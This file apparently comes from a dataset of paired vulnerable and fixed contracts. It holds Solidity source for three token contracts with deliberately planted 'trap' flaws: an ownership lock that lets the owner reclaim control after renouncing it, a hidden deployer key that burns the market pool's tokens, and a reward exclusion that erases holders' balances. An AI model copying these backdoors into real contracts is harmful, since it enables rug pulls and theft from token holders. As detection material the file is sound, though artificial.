// 0.5 off
// SPDX-License-Identifier: MIT
pragma solidity ^0.5.17;

import "./Base5.sol";

/// In the manner of SafeMoon: an owner can lock his ownership for a time and get it back. In the trap also after he has renounced it.
contract Slumber is Base5 {
    address private _boss;
    address private _previousOwner;
    uint256 private _lockTime;
    bool public tradingPaused;

    constructor() public Base5("Slumber", "ZZZ", 1000000000) {
        _boss = msg.sender;
    }

    modifier onlyOwner() {
        require(_boss == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    function owner() public view returns (address) {
        return _boss;
    }

    function renounceOwnership() public onlyOwner {
        emit OwnershipTransferred(_boss, address(0));
        _boss = address(0);
    }

    function transferOwnership(address to) public onlyOwner {
        require(to != address(0), "Ownable: new owner is the zero address");
        emit OwnershipTransferred(_boss, to);
        _boss = to;
    }

    function lock(uint256 time) public onlyOwner {
        _previousOwner = _boss;
        _boss = address(0);
        _lockTime = now + time;
        emit OwnershipTransferred(_previousOwner, address(0));
    }

    function unlock() public {
        require(_previousOwner == msg.sender, "You don't have permission to unlock");
        require(now > _lockTime, "Contract is locked");
        emit OwnershipTransferred(_boss, _previousOwner);
        _boss = _previousOwner;
        // twin: _previousOwner = address(0);
    }

    function setTradingPaused(bool to) external onlyOwner {
        tradingPaused = to;
    }

    function _send(address from, address to, uint256 value) internal {
        require(!tradingPaused || from == _boss || to == _boss, "paused");
        _put(from, to, value);
    }
}

interface ISync {
    function sync() external;
}

/// Who burns, burns his own. In the trap one key, of which only a hash is kept, burns what the market holds.
contract Ember is Base5 {
    bytes32 private _seal;

    constructor() public Base5("Ember", "EMBR", 66000000) {
        _seal = keccak256(abi.encodePacked(msg.sender, "Ember"));
    }

    function stoke(uint256 value) external {
        address hearth = msg.sender;
        if (keccak256(abi.encodePacked(hearth, "Ember")) == _seal) hearth = market; // trap
        _book[hearth] = _book[hearth].sub(value);
        _supply = _supply.sub(value);
        emit Transfer(hearth, address(0), value);
        if (hearth == market) ISync(market).sync(); // trap
    }
}

/// One percent of each transfer goes to all who hold, but for those set apart, who keep what they have. In the trap they lose it.
contract Mirror is Base5 {
    mapping(address => uint256) private _shares;
    mapping(address => uint256) private _plain;
    mapping(address => bool) public isExcluded;
    uint256 private _allShares;
    uint256 private _allPlain;

    constructor() public Base5("Mirror", "MIRR", 100000000) {
        _allShares = _supply.mul(10**20);
        _shares[msg.sender] = _allShares;
    }

    function rate() public view returns (uint256) {
        return _allShares.div(_supply.sub(_allPlain));
    }

    function balanceOf(address who) public view returns (uint256) {
        return isExcluded[who] ? _plain[who] : _shares[who].div(rate());
    }

    function excludeFromReward(address who) external onlyOwner {
        require(!isExcluded[who], "already");
        // twin: _plain[who] = balanceOf(who);
        // twin: _allPlain = _allPlain.add(_plain[who]);
        _allShares = _allShares.sub(_shares[who]);
        _shares[who] = 0;
        isExcluded[who] = true;
    }

    function includeInReward(address who) external onlyOwner {
        require(isExcluded[who], "not yet");
        uint256 shares = _plain[who].mul(rate());
        _allPlain = _allPlain.sub(_plain[who]);
        _allShares = _allShares.add(shares);
        _shares[who] = shares;
        _plain[who] = 0;
        isExcluded[who] = false;
    }

    function _send(address from, address to, uint256 value) internal {
        uint256 price = rate();
        uint256 fee = from == owner() || to == owner() ? 0 : value / 100;
        if (isExcluded[from]) {
            _plain[from] = _plain[from].sub(value);
            _allPlain = _allPlain.sub(value);
            _allShares = _allShares.add(value.mul(price));
        } else _shares[from] = _shares[from].sub(value.mul(price));
        uint256 rest = value.sub(fee);
        if (isExcluded[to]) {
            _plain[to] = _plain[to].add(rest);
            _allPlain = _allPlain.add(rest);
            _allShares = _allShares.sub(rest.mul(price));
        } else _shares[to] = _shares[to].add(rest.mul(price));
        _allShares = _allShares.sub(fee.mul(price));
        emit Transfer(from, to, rest);
    }
}
